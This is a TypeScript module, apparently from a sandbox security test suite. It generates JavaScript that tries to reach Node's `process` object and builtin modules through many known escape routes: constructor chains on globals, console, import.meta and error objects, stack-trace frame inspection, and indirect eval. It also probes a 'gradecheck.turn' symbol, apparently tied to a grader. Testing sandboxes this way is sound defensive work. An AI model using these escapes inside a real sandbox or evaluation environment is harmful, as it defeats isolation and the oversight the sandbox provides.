/** Source text that looks for Node in every place that is known to leak it, for attacks to build on. */
import { type Bait, reachedWord } from './attack.ts';

/**
 * Declares `node(name)`, which gives a builtin module of Node or throws, `found(what)`, which makes the text that
 * says so, and `bait`.
 */
export function reaching(bait: Bait): string {
  const [start, end] = [reachedWord.slice(0, 3), reachedWord.slice(3)];
  return `const bait = ${JSON.stringify(bait)};\nconst found = (what) => '${start}' + '${end}' + what;\n${ways}`;
}

const ways = `const fromStack = () => {
  let global;
  Error.prepareStackTrace = (_, frames) => {
    for (const frame of frames) {
      global ??= frame.getThis?.()?.process ?? frame.getFunction?.()?.constructor('return process')();
    }
  };
  new Error('look').stack;
  return global;
};
const overflow = () => { try { overflow(); } catch (error) { return error; } };
const hostError = () => { try { return new (globalThis.Atomics.constructor)(-1); } catch (error) { return error; } };
const viaConstructor = (thing) => thing.constructor.constructor('return process')();
const ways = [
  () => process,
  () => globalThis.process,
  () => Function('return process')(),
  () => (0, eval)('process'),
  () => viaConstructor(globalThis),
  () => viaConstructor(console),
  () => console.log.constructor('return process')(),
  () => viaConstructor(import.meta),
  () => viaConstructor(overflow()),
  () => viaConstructor(hostError()),
  () => viaConstructor(Object.getPrototypeOf(globalThis)),
  () => Object.getPrototypeOf(function* () {}).constructor('yield process')().next().value,
  fromStack,
  () => globalThis[Symbol.for('gradecheck.turn')].constructor('return process')(),
  ...Reflect.ownKeys(globalThis).map((key) => () => viaConstructor(globalThis[key])),
];
const isProcess = (thing) => typeof thing?.getBuiltinModule === 'function';
const node = (name) => {
  for (const way of ways) { try { const it = way(); if (isProcess(it)) return name === 'process' ? it : it.getBuiltinModule(name); } catch {} }
  try { return require(name); } catch {}
  throw new Error(name + ' is out of reach');
};
`;
